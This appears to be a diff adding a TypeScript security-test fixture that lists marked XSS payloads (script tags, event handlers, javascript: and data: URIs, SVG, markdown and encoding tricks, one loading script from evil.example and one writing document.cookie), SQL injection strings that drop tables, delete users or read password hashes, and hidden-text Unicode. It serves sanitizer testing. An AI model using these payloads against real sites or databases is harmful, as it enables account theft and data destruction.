@@ -1,0 +1,125 @@
+/**
+ * Hostile input for the security suites. Every XSS payload carries a marker (`xss<n>`) so a
+ * test can find where it landed in a page and check that nothing it tried to create exists.
+ */
+
+const raw: string[] = [
+  // Script elements
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<script>document.write(document.cookie)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '</textarea><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '<script/src="data:text/javascript,alert(1)"></script>',
+  '<<script>alert(1);//<</script>',
+  '</code></td></tr></table><script>alert(1)</script>',
+  '--><script>alert(1)</script><!--',
+  // Event handlers
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)">',
+  '<IMG SRC=x ONERROR=alert(1)>',
+  '<body onload=alert(1)>',
+  '<div onmouseover="alert(1)">hover</div>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<select autofocus onfocus=alert(1)>',
+  '" onmouseover="alert(1)',
+  "' onfocus='alert(1)' autofocus='",
+  '" autofocus onfocus=alert(1) x="',
+  '<a href="#" onclick="alert(1)">click</a>',
+  '<p style="x:expression(alert(1))" onclick=alert(1)>x</p>',
+  // javascript:, data: and other schemes
+  '<a href="javascript:alert(1)">click</a>',
+  '<a href="JaVaScRiPt:alert(1)">click</a>',
+  '<a href="&#106;avascript:alert(1)">click</a>',
+  '<a href="java\tscript:alert(1)">click</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+  '<a href="vbscript:msgbox(1)">click</a>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><button>go</button></form>',
+  '<button formaction="javascript:alert(1)">go</button>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<link rel="stylesheet" href="javascript:alert(1)">',
+  // SVG and MathML
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  // Markdown link and image tricks
+  '[click](javascript:alert(1))',
+  '[click](JAVASCRIPT:alert(1))',
+  '[click](javascript&#58;alert(1))',
+  '[click](data:text/html,<script>alert(1)</script>)',
+  '[click](vbscript:msgbox(1))',
+  '![x](javascript:alert(1))',
+  '![x" onerror="alert(1)](https://evil.example/x.png)',
+  '[x](https://ok.example "title" onclick="alert(1)")',
+  '[x](<javascript:alert(1)>)',
+  '<javascript:alert(1)>',
+  '[ref]\n\n[ref]: javascript:alert(1)',
+  '`<script>alert(1)</script>`',
+  '```\n<script>alert(1)</script>\n```',
+  '> <img src=x onerror=alert(1)>',
+  '**<img src=x onerror=alert(1)>**',
+  '[<img src=x onerror=alert(1)>](https://ok.example)',
+  // Unicode and encoding tricks
+  '＜script＞alert(1)＜/script＞',
+  '\u003cscript\u003ealert(1)\u003c/script\u003e',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
+  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
+  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<script\u000c>alert(1)</script>',
+  '<img src=x one\u200Brror=alert(1)>',
+  '\u202E<script>alert(1)</script>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '<style>@import "javascript:alert(1)";</style>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+];
+
+/** Each payload prefixed by its marker, e.g. `xss7 <img src=x onerror=alert(1)>`. */
+export const XSS_PAYLOADS: readonly string[] = raw.map((p, i) => `xss${i} ${p}`);
+
+/** Strings that would change an SQL statement if they were ever concatenated into one. */
+export const SQL_INJECTION: readonly string[] = [
+  "' OR '1'='1",
+  "' OR 1=1 --",
+  "'; DROP TABLE posts; --",
+  '" OR ""="',
+  "1; SELECT pg_sleep(5) --",
+  "1 UNION SELECT username, password_hash FROM users --",
+  "admin'--",
+  "') OR ('a'='a",
+  '1 AND 1=CAST((SELECT password_hash FROM users LIMIT 1) AS int)',
+  "%' AND 1=0 UNION SELECT null --",
+  '\\x27; DELETE FROM users; --',
+  '$1',
+];
+
+/** Characters that hide or reorder text: they must be stored and shown exactly as typed, or refused. */
+export const TRICKY_UNICODE: readonly string[] = [
+  'zero\u200Bwidth\u200Cjoiners\u200D here\uFEFF',
+  'right-to-left \u202Egnp.exe\u202C override',
+  'isolates \u2066abc\u2069 \u2067def\u2069',
+  'combining e\u0301\u0301\u0301 marks',
+  'emoji 🧡 with skin tone 👋🏽 and family 👨‍👩‍👧',
+  'Ｆｕｌｌｗｉｄｔｈ and 𝐌𝐚𝐭𝐡 letters',
+  'line\u2028separator and\u2029paragraph',
+];
